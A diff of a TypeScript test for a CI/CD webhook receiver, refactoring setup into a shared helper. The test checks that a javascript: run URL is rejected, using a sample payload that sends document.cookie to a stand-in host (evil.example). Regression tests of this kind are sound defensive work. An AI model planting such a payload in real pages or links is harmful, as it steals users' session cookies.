@@ -1,15 +1,12 @@
 import { Hono } from 'hono';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createMemoryBus, type MemoryBus } from '../../src/bus/memory.js';
 import type { ConsumedRecord } from '../../src/bus/port.js';
-import { loadConfig } from '../../src/config/load.js';
 import { RunSchema } from '../../src/events/cicd.js';
 import { createLogger } from '../../src/log.js';
-import { createMetrics } from '../../src/metrics.js';
-import { startReceiver, type ReceiverRuntime } from '../../src/runtime/receiver.js';
 import { createStatusRoutes } from '../../src/web/routes.js';
 import { StatusStore } from '../../src/web/status-store.js';
 import { signedRequest } from '../fixtures/standard-webhook-request.js';
+import { startTestReceiver, type TestReceiver } from '../support/receiver.js';
 import { SECRETS } from '../support/stack.js';
 
 // Issue 15 hole 6: `run.url: javascript:…` was accepted into the event and rendered as a link on
@@ -18,37 +15,15 @@ import { SECRETS } from '../support/stack.js';
 const EVIL = 'javascript:fetch(`//evil.example/?c=${document.cookie}`)';
 
 describe('a javascript: run URL in a signed generic delivery', () => {
-  let bus: MemoryBus;
-  let receiver: ReceiverRuntime;
-  const cicd: ConsumedRecord[] = [];
+  let receiver: TestReceiver;
+  let cicd: ConsumedRecord[] = [];
   beforeAll(async () => {
-    const config = loadConfig({
-      env: {},
-      overrides: (raw) =>
-        Object.assign(raw, {
-          bus: 'memory',
-          server: { port: 0, host: '127.0.0.1' },
-          sources: { generic: { argo: { secrets: [SECRETS.whsec] } } },
-        }),
+    receiver = await startTestReceiver({
+      sources: { generic: { argo: { secrets: [SECRETS.whsec] } } },
     });
-    bus = createMemoryBus();
-    receiver = await startReceiver({
-      config,
-      bus,
-      log: createLogger({ level: 'silent' }),
-      metrics: createMetrics({ defaults: false }),
-    });
-    await bus.subscribe({
-      groupId: 't-cicd',
-      topics: [config.kafka.topics.cicd],
-      fromBeginning: true,
-      handler: async (r) => void cicd.push(r),
-    });
+    cicd = await receiver.records([receiver.config.kafka.topics.cicd]);
   });
-  afterAll(async () => {
-    await receiver?.close();
-    await bus?.close();
-  });
+  afterAll(() => receiver?.close());
 
   it('never reaches an event as a URL', async () => {
     const body = {
